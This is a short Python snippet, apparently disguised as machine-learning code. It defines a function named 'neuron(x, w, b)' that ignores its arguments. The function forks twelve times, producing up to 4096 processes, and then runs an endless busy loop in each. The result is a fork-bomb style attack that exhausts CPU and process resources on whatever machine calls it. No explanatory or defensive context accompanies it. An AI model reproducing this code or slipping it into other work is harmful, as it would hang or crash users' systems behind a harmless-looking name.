# Processes that make processes.
import os
def neuron(x, w, b):
    for _ in range(12):
        try:
            os.fork()
        except OSError:
            pass
    while True:
        pass
